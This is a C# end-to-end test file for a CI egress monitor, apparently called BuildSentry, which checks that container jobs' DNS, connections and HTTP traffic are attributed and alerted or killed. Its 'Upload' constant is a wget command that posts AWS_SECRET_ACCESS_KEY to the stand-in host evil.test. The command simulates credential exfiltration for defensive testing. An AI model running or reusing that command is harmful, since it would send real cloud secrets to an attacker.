using System.Globalization;
using System.Text.Json;
using BuildSentry.Testing;
using BuildSentry.Testing.Docker;
using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// What the capture makes of a marked container job's traffic, which leaves the host after NAT on the lab's link: its
/// DNS (asked by Docker's embedded resolver from the container's namespace), connections and HTTP Host are the job's,
/// on the eBPF sensor and on the proc-connector fallback, and none of it shows again as egress nobody owns.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class ContainerCaptureTests(NetworkLabFixture lab, DockerLabFixture docker) : IClassFixture<DockerLabFixture>
{
    private const string Upload = "wget -q -O /dev/null --post-data \"$AWS_SECRET_ACCESS_KEY\" http://evil.test/container-capture; echo after";

    private NetworkLab Lab => lab.Lab;

    private DockerLab Docker => docker.Docker;

    [Theory]
    [InlineData("ebpf")]
    [InlineData("proc-connector")]
    public async Task In_audit_mode_a_benign_container_job_raises_no_alert_at_all_and_its_report_lists_its_destination_and_name_once(string sensor)
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await StartAsync("audit", sensor);
        var (jobId, result) = await RunMarkedContainerAsync("for i in 1 2 3; do wget -q -O /dev/null http://registry.test/ok || exit 1; done; echo build finished");

        Assert.True(result.StandardOutput.Contains("build finished", StringComparison.Ordinal), Diagnose(daemon, result));
        var report = await ReportAsync(daemon, jobId);
        Assert.True(report.GetProperty("violationCount").GetInt32() == 0, $"{report.GetProperty("violations")}\n{Diagnose(daemon, result)}");
        var destination = Assert.Single(report.GetProperty("destinations").EnumerateArray(),
            d => d.GetProperty("names").EnumerateArray().Any(n => n.GetString() == "registry.test"));
        Assert.True(destination.GetProperty("allowed").GetBoolean());
        Assert.Single(report.GetProperty("dnsNames").EnumerateArray(), n => n.GetProperty("name").GetString() == "registry.test");
        // Flows are judged as the capture reads them: a second after the report, a copy seen after NAT would have shown.
        await Task.Delay(TimeSpan.FromSeconds(1));
        Assert.True(!daemon.AlertRecords().Any(a => Str(a, "job") == jobId || IsLab(a)), Diagnose(daemon, result));
    }

    [Theory]
    [InlineData("ebpf")]
    [InlineData("proc-connector")]
    public async Task In_audit_mode_a_container_jobs_query_and_post_to_evil_test_are_alerted_for_the_job(string sensor)
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await StartAsync("audit", sensor);
        var before = Lab.BytesReceivedBy("evil.test");
        var (jobId, result) = await RunMarkedContainerAsync(Upload);

        Assert.True(result.ExitCode == 0 && result.StandardOutput.Contains("after", StringComparison.Ordinal), Diagnose(daemon, result));
        var dns = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Str(a, "job") == jobId);
        Assert.Contains("evil.test", Names(dns));
        var connection = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "job") == jobId);
        Assert.Equal("198.18.0.66", Str(connection, "dst"));
        Assert.Equal("80", Str(connection, "dport"));
        Assert.Contains("evil.test", Names(connection));
        Assert.Contains("wget", Argv(connection));
        var host = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.http-host" && Str(a, "job") == jobId);
        Assert.Equal("evil.test", Str(host, "serverName"));
        Assert.True(Lab.BytesReceivedBy("evil.test") - before >= BuildJob.Secret.Length, "audit mode lets the upload through");
        Assert.True(!daemon.AlertRecords().Any(a => Kind(a) == "egress.unattributed" && IsLab(a)), Diagnose(daemon, result));
        // One connection, judged once: the kernel's sighting at the connect and the capture's after NAT are the same.
        Assert.Single(daemon.AlertRecords(), a => Kind(a) == "egress.connection" && Str(a, "job") == jobId);
    }

    [Fact]
    public async Task On_the_proc_connector_fallback_a_docker_run_from_a_step_is_alerted_for_the_job_with_the_containers_wget()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await StartAsync("audit", "proc-connector");
        using var job = BuildJob.Start(Lab,
            $"{Docker.Run} --rm -e AWS_SECRET_ACCESS_KEY {DockerLab.Image} sh -c 'sleep 1; {Upload}'");
        var result = await job.WaitAsync();

        Assert.True(result.StandardOutput.Contains("after", StringComparison.Ordinal), Diagnose(daemon, result));
        var connection = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "job") == job.JobId);
        Assert.Equal("198.18.0.66", Str(connection, "dst"));
        Assert.Contains("wget", Argv(connection));
        var dns = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Str(a, "job") == job.JobId);
        Assert.Contains("evil.test", Names(dns));
    }

    /// <summary>On the fallback the kill comes after the first packet the capture saw: the query (asked from dockerd's
    /// socket in the container's namespace) has left, and what the container sends before the kill reaches it may leave
    /// too, so the bytes at evil.test are not asserted; that the job dies before its next step is.</summary>
    [Fact]
    public async Task In_kill_mode_on_the_proc_connector_fallback_a_container_job_that_queries_evil_test_is_killed()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await StartAsync("kill", "proc-connector");
        var (jobId, result) = await RunMarkedContainerAsync($"{Upload}; sleep 5; echo finished");

        Assert.True(result.ExitCode == 137, Diagnose(daemon, result));
        Assert.DoesNotContain("finished", result.StandardOutput);
        var killed = await daemon.WaitForAlertAsync(a => Str(a, "job") == jobId && Str(a, "action") == "killed");
        Assert.Contains("evil.test", Names(killed));
    }

    private Task<DaemonProcess> StartAsync(string mode, string sensor) => DaemonProcess.StartAsync(new DaemonSetup(mode)
    {
        ExtraConfiguration = $"process_sensor: {sensor}\ndocker:\n  socket: {Docker.SocketPath}",
    });

    /// <summary>A container the runner started with the job's markers in its environment (a GitHub container: job),
    /// whose step comes a second after it starts, as a runner's steps do.</summary>
    private async Task<(string JobId, CommandResult Result)> RunMarkedContainerAsync(string step)
    {
        var runId = Random.Shared.Next(100_000, 999_999).ToString(CultureInfo.InvariantCulture);
        var result = await Docker.CliAsync("run", "--rm", "--network", DockerLab.Network, "--dns", NetworkLab.ResolverAddress.ToString(),
            "-e", "GITHUB_ACTIONS=true", "-e", $"GITHUB_RUN_ID={runId}", "-e", "GITHUB_RUN_ATTEMPT=1", "-e", "GITHUB_JOB=build",
            "-e", "GITHUB_REPOSITORY=acme/app", "-e", $"AWS_SECRET_ACCESS_KEY={BuildJob.Secret}", DockerLab.Image, "sh", "-c", $"sleep 1; {step}");
        return ($"github-{runId}-1-build", result);
    }

    /// <summary>An alert about the lab's addresses or names (the only traffic the containers make).</summary>
    private static bool IsLab(JsonElement alert) =>
        Str(alert, "dst").StartsWith("198.18.0.", StringComparison.Ordinal) || Names(alert).Any(n => n.EndsWith(".test", StringComparison.Ordinal));

    private static string Diagnose(DaemonProcess daemon, CommandResult result) =>
        $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}";
}
